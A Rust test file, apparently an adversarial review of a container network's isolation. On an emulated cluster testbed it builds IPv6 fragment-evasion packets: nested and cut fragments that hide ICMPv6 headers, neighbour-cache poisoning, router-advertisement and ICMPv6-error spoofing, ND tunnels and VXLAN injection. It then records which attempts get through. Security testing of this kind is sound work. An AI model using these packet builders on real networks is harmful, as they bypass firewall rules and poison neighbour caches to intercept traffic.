//! Scratch: attempts of an adversarial review.
#![allow(clippy::unwrap_used, missing_docs, unused)]

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, UdpSocket};
use std::thread::sleep;
use std::time::Duration;

use integration::attack::layout::{self, FailMode};
use integration::attack::message::{self, Message, Path, flag};
use integration::attack::packet::{self, fragment, fragments, packet, packet_for, packet_with_extension};
use integration::attack::{Ears, Field, Flow, Mark, frame, overlay, wire};
use integration::cluster::{OUTSIDE, Transport};
use integration::command::{bridge, ip, ip_answer, nft};
use integration::probe::probe;
use integration::{Attachment, Cluster, Family, Links, Story, Testbed};

struct T {
    story: Story,
    field: Field,
    ears: Ears,
    next: u32,
}

impl T {
    fn new(story: Story) -> Self {
        let field = Field::of(&story.testbed).unwrap();
        let ears = Ears::open(&story.testbed).unwrap();
        Self { story, field, ears, next: 1 }
    }
    fn mark(&mut self) -> Mark {
        self.next += 1;
        Mark(self.next)
    }
    fn send(&self, from: &str, frames: &[Vec<u8>]) {
        let n = self.story.testbed.namespace(from).unwrap();
        wire::send_frames(n, &self.field[from].interface, frames).unwrap();
    }
    fn say(&self, what: &str, mark: Mark, at: &[&str]) {
        sleep(Duration::from_millis(150));
        let heard: Vec<&&str> = at.iter().filter(|to| self.ears.heard(mark, to)).collect();
        eprintln!("@@ {} {what}: {heard:?}", if heard.is_empty() { "held       " } else { "GOT THROUGH" });
    }
}

fn said(what: &str, through: bool, detail: &str) {
    eprintln!("@@ {} {what}: {}", if through { "GOT THROUGH" } else { "held       " }, detail.trim());
}

/// ICMPv6 behind destination options, cut so that the first fragment ends before the ICMPv6 header.
fn hidden(path: Path, message: &Message, hop_limit: u8, id: u16) -> Vec<Vec<u8>> {
    let mut bytes = vec![message.protocol, 0, 1, 4, 0, 0, 0, 0];
    bytes.extend_from_slice(&message.bytes);
    let mut out = fragments(path, &Message { protocol: 60, bytes }, id, &[8]);
    out.iter_mut().for_each(|p| p[7] = hop_limit);
    out
}

/// Fragments inside of an atomic fragment: the outer header is what netfilter strips.
fn nested(path: Path, message: &Message, hop_limit: u8, id: u16) -> Vec<Vec<u8>> {
    let mut bytes = vec![message.protocol, 0, 1, 4, 0, 0, 0, 0];
    bytes.extend_from_slice(&message.bytes);
    let cut = [(0usize, &bytes[..8], false), (8, &bytes[8..], true)];
    cut.iter()
        .enumerate()
        .map(|(n, (begin, part, last))| {
            let word = (*begin as u16) | u16::from(!*last);
            let [h, l] = word.to_be_bytes();
            let [ih, il] = id.to_be_bytes();
            let inner = [&[60, 0, h, l, 0, 0, ih, il][..], part].concat();
            let [oh, ol] = (id ^ 0x5500 ^ n as u16).to_be_bytes();
            let mut p = packet_with_extension(
                path,
                &Message { protocol: 44, bytes: inner },
                44,
                &[0, 0, 0, 0, 0, 0, oh, ol],
            );
            p[7] = hop_limit;
            p
        })
        .collect()
}

fn frames(t: &T, from: &str, mac: [u8; 6], packets: &[Vec<u8>]) -> Vec<Vec<u8>> {
    packets.iter().map(|p| frame::of_packet(mac, t.field[from].mac(), p)).collect()
}

fn advertisement(path: Path, target: Ipv6Addr, mac: [u8; 6], extra: &[u8]) -> Message {
    let body = [&target.octets()[..], &[2, 1], &mac, extra].concat();
    message::icmp(path, 136, 0, [0x20, 0, 0, 0], &body)
}

fn hidden_in_fragments(title: &str, links: Links, attachment: Attachment) {
    let mut t = T::new(layout::begin(links, attachment, FailMode::Closed));
    let bridged = t.field.is_bridged();
    // Neighbour cache of the node.
    for (what, nest) in [("dst options + fragments", false), ("nested fragments", true), ("dst options alone", false)] {
        for about in ["friend/f", "victim/v"] {
            let node = std::sync::Arc::clone(t.story.testbed.namespace("node-a").unwrap());
            ip(&node, "neigh flush all\n").unwrap();
            let address = t.field[about].address(Family::V6);
            let _ = node.run(|| probe(address, "ping".parse().unwrap(), Duration::from_secs(1)));
            let host = t.field["evil/a"].clone();
            let gw = t.field.nodes[0].gateway6();
            let path = Path::new(host.v6(), gw);
            let IpAddr::V6(target) = address else { unreachable!() };
            let m = advertisement(path, target, host.mac(), &[]);
            let packets = match what {
                "dst options alone" => {
                    let mut p = packet_with_extension(path, &m, 60, &[0, 0, 1, 4, 0, 0, 0, 0]);
                    p[7] = 255;
                    vec![p]
                }
                _ if nest => nested(path, &m, 255, 77),
                _ => hidden(path, &m, 255, 78),
            };
            let f = frames(&t, "evil/a", host.gateway.mac, &packets);
            t.send("evil/a", &f);
            sleep(Duration::from_millis(80));
            let dev = if bridged { "cni0" } else { t.story.testbed.device(about).unwrap() };
            let answer = ip_answer(&node, &["neigh", "show", "to", &address.to_string(), "dev", dev]).unwrap();
            let mac = host.mac().map(|b| format!("{b:02x}")).join(":");
            let poisoned = answer.contains(&mac);
            said(&format!("{title}: NA by {what}: node's cache of {about}"), poisoned, &answer);
            if poisoned {
                let mark = t.mark();
                let to = SocketAddr::new(address, 9);
                let n = t.story.testbed.namespace("friend/g").unwrap();
                wire::send_datagram(n, mark.port(), to, &mark.bytes()).unwrap();
                t.say(&format!("{title}: a packet of friend/g to {about} after NA by {what}, heard at evil/a"), mark, &["evil/a"]);
            }
            ip(&node, "neigh flush all\n").unwrap();
        }
    }
    // Tunnel by neighbour discovery.
    for (from, to) in [("evil/a", "victim/v"), ("closed/c", "open/o"), ("closed/c", "open/p"), ("closed/c", OUTSIDE), ("evil/b", "evil/a")] {
        for nest in [false, true] {
            let mark = t.mark();
            let path = t.field.path(from, to, Family::V6);
            let host = t.field[from].clone();
            let extra = [&[253, 120][..], &mark.bytes(), &[0; 950]].concat();
            let m = advertisement(path, host.v6(), host.mac(), &extra);
            let packets = if nest { nested(path, &m, 255, mark.port()) } else { hidden(path, &m, 255, mark.port()) };
            let f = frames(&t, from, t.field.next_hop(from, to), &packets);
            t.send(from, &f);
            t.say(&format!("{title}: NA tunnel of 1 KB, {from} to {to}, nested {nest}"), mark, &[to]);
        }
    }
    // Router advertisements.
    for (whom, nest) in [("all", false), ("all", true), ("one", false)] {
        let mark = t.mark();
        let host = t.field["evil/a"].clone();
        let all = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
        let (destination, mac) = if whom == "all" { (all, frame::group_mac(all.into())) } else { (t.field["open/o"].link_local(), t.field.next_hop("evil/a", "open/o")) };
        let path = Path::new(host.link_local(), destination);
        let m = message::icmp(path, 134, 0, [64, 0, 0xff, 0xff], &[&[0; 8][..], &[253, 2], &mark.bytes(), &[0; 6]].concat());
        let packets = if nest { nested(path, &m, 255, mark.port()) } else { hidden(path, &m, 255, mark.port()) };
        let f = frames(&t, "evil/a", mac, &packets);
        t.send("evil/a", &f);
        t.say(&format!("{title}: RA in fragments to {whom}, nested {nest}"), mark, &["open/o", "victim/v", "evil/b", "node-a"]);
    }
    // Errors about others' connections.
    for (from, quoted_from, friend) in [("evil/a", "victim/v", "friend/f"), ("closed/c", "open/o", "open/p"), ("closed/c", "open/p", "open/o"), ("closed/c", OUTSIDE, "open/o"), ("evil/b", "victim/w", "friend/f")] {
        for nest in [false, true] {
            let mark = t.mark();
            // A connection from `friend` to quoted_from.
            let to = t.field[quoted_from].address(Family::V6);
            let src = t.field[friend].address(Family::V6);
            let port = if quoted_from == OUTSIDE { 7000 } else { 9 };
            let n = t.story.testbed.namespace(friend).unwrap();
            let r = n.run(|| -> std::io::Result<usize> {
                let s = UdpSocket::bind((src, mark.port()))?;
                s.set_read_timeout(Some(Duration::from_secs(2)))?;
                s.send_to(b"hello", SocketAddr::new(to, port))?;
                s.recv(&mut [0; 200])
            }).unwrap();
            if let Err(e) = r { eprintln!("@@ note: connection {friend} to {quoted_from}: {e}"); }
            // Of a connection that is translated the quoted destination is the node's.
            let quoted = Path::new(to, if quoted_from == OUTSIDE { IpAddr::V6(t.field.nodes[0].address6) } else { src });
            let inside = message::udp(quoted, (port, mark.port()), &[&mark.bytes()[..], &[0; 400]].concat());
            let path = t.field.path(from, quoted_from, Family::V6);
            let m = message::icmp(path, 1, 4, [0; 4], &packet(quoted, &inside));
            let packets = if nest { nested(path, &m, 64, mark.port()) } else { hidden(path, &m, 64, mark.port()) };
            let f = frames(&t, from, t.field.next_hop(from, quoted_from), &packets);
            t.send(from, &f);
            t.say(&format!("{title}: ICMPv6 error in fragments, {from} to {quoted_from}, nested {nest}"), mark, &[quoted_from]);
        }
    }
    // UDP in nested fragments.
    for (from, to) in [("evil/a", "victim/v"), ("evil/a", "victim/w"), ("closed/c", "open/o"), ("closed/c", "open/p"), ("limited/l", "open/p")] {
        let mark = t.mark();
        let path = t.field.path(from, to, Family::V6);
        let m = message::udp(path, (mark.port(), 9), &[&mark.bytes()[..], &[0; 64]].concat());
        let f = frames(&t, from, t.field.next_hop(from, to), &nested(path, &m, 64, mark.port()));
        t.send(from, &f);
        t.say(&format!("{title}: UDP in nested fragments {from} to {to}"), mark, &[to]);
    }
    // VXLAN over IPv6.
    for node in t.field.nodes.clone() {
        let mac = [0x02, 0, 0, 0, 0x01, node.address4.octets()[3]].map(|b: u8| format!("{b:02x}")).join(":");
        let n = t.story.testbed.namespace(&node.name).unwrap();
        ip(n, &format!("link add flannel-v6.1 address {mac} type vxlan id 1 dstport 8472 nolearning local {} dev eth0\nlink set flannel-v6.1 up\n", node.address6)).unwrap();
        n.sysctl("net.ipv4.conf.flannel-v6/1.rp_filter", "0").unwrap_or(());
    }
    sleep(Duration::from_millis(500));
    for how in ["plain", "nested", "hidden"] {
        for (number, victim, friend) in [(0, "victim/v", "friend/g"), (1, "victim/w", "friend/f")] {
            for target in ["node", "gateway", "link-local"] {
                for from in ["evil/a", "closed/c"] {
                    let host = t.field[from].clone();
                    let (src, dst): (Ipv6Addr, Ipv6Addr) = match target {
                        "node" => (host.v6(), t.field.nodes[number].address6),
                        "gateway" => (host.v6(), t.field.nodes[number].gateway6()),
                        _ if number == 0 => (host.link_local(), host.gateway.link_local),
                        _ => continue,
                    };
                    let mark = t.mark();
                    let inner = overlay::inner(&t.field, number, friend, victim, Family::V4, mark);
                    let path = Path::new(src, dst);
                    let m = message::udp(path, (mark.port(), 8472), &overlay::vxlan(1, &inner));
                    let packets = match how {
                        "plain" => vec![packet(path, &m)],
                        "nested" => nested(path, &m, 64, mark.port()),
                        _ => hidden(path, &m, 64, mark.port()),
                    };
                    let f = frames(&t, from, host.gateway.mac, &packets);
                    t.send(from, &f);
                    t.say(&format!("{title}: VXLAN over IPv6, {how}, {from} to {target} of node {number}"), mark, &[victim]);
                }
            }
        }
    }
    // Directed broadcast and others.
    if links == Links::Vxlan {
        for from in ["evil/a", "closed/c"] {
            for (what, address, number) in [("the other pod CIDR's broadcast", "10.244.2.255", 1), ("own pod CIDR's broadcast", "10.244.1.255", 0), ("node network's broadcast", "192.0.2.255", 1), ("the other node's flannel.1", "10.244.2.0", 1)] {
                let (victim, friend) = [("victim/v", "friend/g"), ("victim/w", "friend/f")][number];
                let mark = t.mark();
                let inner = overlay::inner(&t.field, number, friend, victim, Family::V4, mark);
                let host = t.field[from].clone();
                let path = Path::new(host.v4(), address.parse::<Ipv4Addr>().unwrap());
                let m = message::udp(path, (mark.port(), 8472), &overlay::vxlan(1, &inner));
                let f = frames(&t, from, host.gateway.mac, &[packet(path, &m)]);
                t.send(from, &f);
                t.say(&format!("{title}: VXLAN {from} to {what}"), mark, &[victim]);
            }
        }
    }
}

#[test]
fn hidden_bridge() {
    hidden_in_fragments("VXLAN bridge", Links::Vxlan, Attachment::Bridge);
}

#[test]
fn hidden_routed() {
    hidden_in_fragments("host-gw routed", Links::Routes, Attachment::Routed);
}

/// Neighbour discovery whose first fragment ends behind the first 8 bytes of ICMPv6: no rule sees target nor length.
fn cut_after_header(path: Path, message: &Message, id: u16, nest: bool) -> Vec<Vec<u8>> {
    let mut out = if nest {
        let cut = [(0usize, &message.bytes[..8], false), (8, &message.bytes[8..], true)];
        cut.iter().enumerate().map(|(n, (begin, part, last))| {
            let [h, l] = ((*begin as u16) | u16::from(!*last)).to_be_bytes();
            let [ih, il] = id.to_be_bytes();
            let inner = [&[58, 0, h, l, 0, 0, ih, il][..], part].concat();
            let [oh, ol] = (id ^ 0x5500 ^ n as u16).to_be_bytes();
            packet_with_extension(path, &Message { protocol: 44, bytes: inner }, 44, &[0, 0, 0, 0, 0, 0, oh, ol])
        }).collect()
    } else {
        fragments(path, message, id, &[8])
    };
    out.iter_mut().for_each(|p| p[7] = 255);
    out
}

fn cut_discovery(title: &str, links: Links, attachment: Attachment) {
    let mut t = T::new(layout::begin(links, attachment, FailMode::Closed));
    let bridged = t.field.is_bridged();
    eprintln!();
    for nest in [false, true] {
      for from in ["evil/a", "closed/c", "evil/b"] {
        for about in ["friend/f", "victim/v"] {
            let node = std::sync::Arc::clone(t.story.testbed.namespace("node-a").unwrap());
            ip(&node, "neigh flush all\n").unwrap();
            let address = t.field[about].address(Family::V6);
            let _ = node.run(|| probe(address, "ping".parse().unwrap(), Duration::from_secs(1)));
            let host = t.field[from].clone();
            let path = Path::new(host.v6(), t.field.nodes[0].gateway6());
            let IpAddr::V6(target) = address else { unreachable!() };
            let m = advertisement(path, target, host.mac(), &[]);
            let f = frames(&t, from, host.gateway.mac, &cut_after_header(path, &m, 77, nest));
            t.send(from, &f);
            sleep(Duration::from_millis(80));
            let dev = if bridged { "cni0" } else { t.story.testbed.device(about).unwrap() };
            let answer = ip_answer(&node, &["neigh", "show", "to", &address.to_string(), "dev", dev]).unwrap();
            let poisoned = answer.contains(&host.mac().map(|b| format!("{b:02x}")).join(":"));
            said(&format!("{title}: NA cut after 8 bytes, nested {nest}, by {from}: node's cache of {about}"), poisoned, &answer);
            if poisoned {
                let mark = t.mark();
                let n = t.story.testbed.namespace("friend/g").unwrap();
                wire::send_datagram(n, mark.port(), SocketAddr::new(address, 9), &mark.bytes()).unwrap();
                t.say(&format!("{title}: a packet of friend/g to {about} afterwards, heard at {from} (and at {about})"), mark, &[from, about]);
            }
            ip(&node, "neigh flush all\n").unwrap();
        }
      }
      for kind in [135, 136] {
        for (from, to) in [("evil/a", "victim/v"), ("closed/c", "open/o"), ("closed/c", "open/p"), ("closed/c", OUTSIDE), ("evil/b", "evil/a"), ("evil/b", "closed/c")] {
            let mark = t.mark();
            let path = t.field.path(from, to, Family::V6);
            let host = t.field[from].clone();
            let body = [&host.v6().octets()[..], &[253, 120], &mark.bytes(), &[0; 1300]].concat();
            let m = message::icmp(path, kind, 0, [0; 4], &body);
            let f = frames(&t, from, t.field.next_hop(from, to), &cut_after_header(path, &m, mark.port(), nest));
            t.send(from, &f);
            t.say(&format!("{title}: {kind} cut after 8 bytes with 1300 bytes, nested {nest}, {from} to {to}"), mark, &[to]);
        }
      }
    }
}

#[test]
fn cut_bridge() {
    cut_discovery("VXLAN bridge", Links::Vxlan, Attachment::Bridge);
}

#[test]
fn cut_routed() {
    cut_discovery("host-gw routed", Links::Routes, Attachment::Routed);
}
